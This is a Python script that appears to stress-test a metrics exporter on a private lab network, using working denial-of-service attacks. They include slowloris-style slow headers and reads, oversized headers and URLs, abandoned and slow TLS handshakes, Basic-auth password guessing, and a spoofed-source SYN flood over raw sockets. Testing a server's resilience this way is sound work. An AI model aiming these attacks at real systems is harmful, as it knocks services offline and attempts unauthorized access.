#!/usr/bin/python3 -B
# SPDX-License-Identifier: Apache-2.0
"""Attacks a server in one way, with many connections.

    attackers.py KIND PORT CONNECTIONS SOURCES SECONDS RATE

Keeps CONNECTIONS open from SOURCES addresses, as far as the server lets it, and opens at most RATE in a second. Prints what it
did as JSON. Needs the addresses of environment.py.
"""
import base64
import collections
import errno
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

SERVER = "10.65.0.100"
# <linux/in.h>: choose the port in connect(), by all of the four numbers of a connection.
IP_BIND_ADDRESS_NO_PORT = 24
RESET = struct.pack("ii", 1, 0)


class Kind:
    """What the connections of an attack do."""
    first = b""          # what each sends at once
    each_second = b""    # what each sends every second
    reads = True         # whether it reads what comes; otherwise one byte a second
    web = None           # the web configuration that the server has: see environment.py

    def bytes(self):
        return self.first


class Idle(Kind):
    """idle"""


class KnownIdle(Kind):
    """idle after a response"""
    first = b"GET /-/healthy HTTP/1.1\r\nHost: a\r\n\r\n"


class UnreadPages(Kind):
    """status pages that are not read"""
    first = b"GET /?rows=1000 HTTP/1.1\r\nHost: a\r\n\r\n" * 16
    reads = False


class SlowHeaders(Kind):
    """one header byte a second"""
    first = b"GET /metrics HTTP/1.1\r\nHost: a\r\nX: "
    each_second = b"a"


class SlowReader(Kind):
    """one response byte read a second"""
    first = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
    reads = False


class Garbage(Kind):
    """pipelined garbage"""

    def bytes(self):
        lines = (bytes(random.choices(range(1, 256), k=random.randrange(1, 200))) for _ in range(10))
        return b"garbage / HTTP/1.1x\r\n\r\n" + b"\r\n".join(lines) + b"\r\n\r\n"


class LongHeaders(Kind):
    """64 KB of headers"""
    first = b"GET /metrics HTTP/1.1\r\nHost: a\r\n" + b"X: aaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 2048 + b"\r\n"


class LongURL(Kind):
    """a URL of 1 MB"""
    first = b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nHost: a\r\n\r\n"


class Pages(Kind):
    """pages that must be rendered"""
    first = (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" + b"GET /metrics?name[]=pidns_up HTTP/1.1\r\nHost: a\r\n\r\n") * 4


class HalfOpen(Kind):
    """half-open (SYN without ACK)"""


def client_hello():
    outgoing = ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="exporter").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


class AbandonedHandshake(Kind):
    """abandoned TLS handshakes"""
    web = "tls"
    first = client_hello()


class SlowHandshake(Kind):
    """one byte of a TLS handshake a second"""
    web = "tls"
    # The head of a record of 16 KiB.
    first = b"\x16\x03\x01\x40\x00\x01"
    each_second = b"a"


class WrongPasswords(Kind):
    """wrong passwords"""
    web = "password"

    def bytes(self):
        def request(user):
            password = base64.b64encode(user + b":" + random.randbytes(8).hex().encode()).decode()
            return f"GET /metrics HTTP/1.1\r\nHost: a\r\nAuthorization: Basic {password}\r\n\r\n".encode()
        return b"".join(request(random.choice((b"prometheus", b"nobody"))) for _ in range(8))


KINDS = {
    "idle": Idle, "known-idle": KnownIdle, "unread-pages": UnreadPages, "slow-headers": SlowHeaders, "slow-reader": SlowReader, "half-open": HalfOpen, "garbage": Garbage,
    "long-headers": LongHeaders, "long-url": LongURL, "pages": Pages, "handshakes": AbandonedHandshake,
    "slow-handshakes": SlowHandshake, "wrong-passwords": WrongPasswords}


class Attack:
    def __init__(self, kind, port, connections, sources, rate):
        self.kind, self.port, self.wanted, self.rate = kind(), port, connections, rate
        self.sources = [f"10.66.0.{number + 1}" for number in range(sources)]
        self.poll = select.epoll()
        self.open = {}        # descriptor: (socket, what is still to be sent)
        self.made = self.closed = self.failed = 0
        self.statuses = collections.Counter()

    def connect(self):
        one = socket.socket()
        one.setblocking(False)
        one.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        if not self.kind.reads:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        one.bind((self.sources[self.made % len(self.sources)], 0))
        error = one.connect_ex((SERVER, self.port))
        if error not in (0, errno.EINPROGRESS):
            self.failed += 1
            one.close()
            return
        self.made += 1
        self.open[one.fileno()] = [one, memoryview(self.kind.bytes()), False]
        self.poll.register(one.fileno(), select.EPOLLOUT | select.EPOLLIN | select.EPOLLRDHUP)

    def close(self, number):
        one = self.open.pop(number)[0]
        self.poll.unregister(number)
        one.close()
        self.closed += 1

    def handle(self, number, event):
        state = self.open.get(number)
        if state is None:
            return
        one, rest, _ = state
        try:
            if event & select.EPOLLIN and self.kind.reads:
                data = one.recv(1 << 16)
                if data.startswith(b"HTTP/1.1 "):
                    self.statuses[data[9:12].decode("latin-1")] += 1
                if not data:
                    return self.close(number)
            elif event & (select.EPOLLERR | select.EPOLLHUP):
                return self.close(number)
            if event & select.EPOLLOUT:
                if rest:
                    state[1] = rest = rest[one.send(rest):]
                if not rest:
                    state[2] = True
                    events = select.EPOLLIN | select.EPOLLRDHUP if self.kind.reads else 0
                    self.poll.modify(number, events)
        except BlockingIOError:
            pass
        except OSError:
            self.close(number)

    def every_second(self):
        for number, (one, _, is_sent) in list(self.open.items()):
            try:
                if is_sent and self.kind.each_second:
                    one.send(self.kind.each_second)
                if is_sent and not self.kind.reads and not one.recv(1):
                    self.close(number)
            except BlockingIOError:
                pass
            except OSError:
                self.close(number)

    def run(self, seconds):
        begin = time.monotonic()
        tick = 0
        while (elapsed := time.monotonic() - begin) < seconds:
            allowed = min(self.wanted - len(self.open), int(elapsed * self.rate) - self.made - self.failed, 100)
            for _ in range(allowed):
                self.connect()
            for number, event in self.poll.poll(0.01, 256):
                self.handle(number, event)
            if elapsed >= tick:
                tick += 1
                self.every_second()
        for number in list(self.open):
            self.close(number)


class SYNFlood:
    """Sends SYN from addresses that do not exist. The server gets no reply to its SYN-ACK."""

    def __init__(self, port, connections, sources, rate):
        self.made = self.closed = self.failed = 0
        self.statuses = {}
        self.rate, self.socket = rate, socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.packets = [
            self.packet(f"10.67.0.{number % sources + 1}", 1024 + number // sources % 64000, port)
            for number in range(connections)]

    @staticmethod
    def packet(source, source_port, port):
        addresses = socket.inet_aton(source) + socket.inet_aton(SERVER)
        head = struct.pack("!HHIIBBH", source_port, port, random.getrandbits(32), 0, 5 << 4, 2, 65535)
        words = struct.unpack("!16H", addresses + struct.pack("!BBH", 0, 6, 20) + head + bytes(4))
        total = sum(words)
        total = (total & 0xFFFF) + (total >> 16)
        checksum = ~(total + (total >> 16)) & 0xFFFF
        tcp = head + struct.pack("!HH", checksum, 0)
        # The kernel fills in the checksum, the length and the identification of the IP header.
        return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + addresses + tcp

    def run(self, seconds):
        begin = time.monotonic()
        while (elapsed := time.monotonic() - begin) < seconds:
            for _ in range(min(int(elapsed * self.rate) - self.made, 100)):
                self.socket.sendto(self.packets[self.made % len(self.packets)], (SERVER, 0))
                self.made += 1
            time.sleep(0.005)


def main():
    name, port, connections, sources, seconds, rate = sys.argv[1], *map(int, sys.argv[2:])
    kind = KINDS[name]
    arguments = (port, connections, sources, rate)
    attack = SYNFlood(*arguments) if kind is HalfOpen else Attack(kind, *arguments)
    attack.run(seconds)
    print(json.dumps({
        "made": attack.made, "closed": attack.closed, "failed": attack.failed, "statuses": dict(attack.statuses)}))


if __name__ == "__main__":
    os.nice(1)
    main()
